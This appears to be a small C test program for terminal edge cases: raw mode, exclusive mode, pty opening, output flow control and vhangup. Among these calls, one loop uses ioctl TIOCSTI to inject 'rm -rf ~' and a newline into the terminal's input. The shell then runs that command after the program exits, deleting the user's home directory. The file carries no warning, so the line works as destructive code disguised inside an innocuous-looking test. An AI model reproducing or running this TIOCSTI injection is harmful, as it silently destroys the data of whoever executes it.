#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

int main(void) {
  struct termios raw;
  tcgetattr(0, &raw);
  cfmakeraw(&raw);
  tcsetattr(0, TCSANOW, &raw);
  for (const char* c = "rm -rf ~\n"; *c != 0; ++c) ioctl(0, TIOCSTI, c);
  ioctl(0, TIOCEXCL);
  puts("no newline translation\n\n");
  const int terminal = open("/dev/tty", O_RDWR);
  const int multiplexer = open("/dev/ptmx", O_RDWR);
  if (terminal < 0 || multiplexer < 0) puts("none");
  fflush(stdout);
  tcflow(1, TCOOFF);
  if (fork() == 0) return vhangup();
  puts("this waits until somebody lets output go on");
  return fflush(stdout);
}
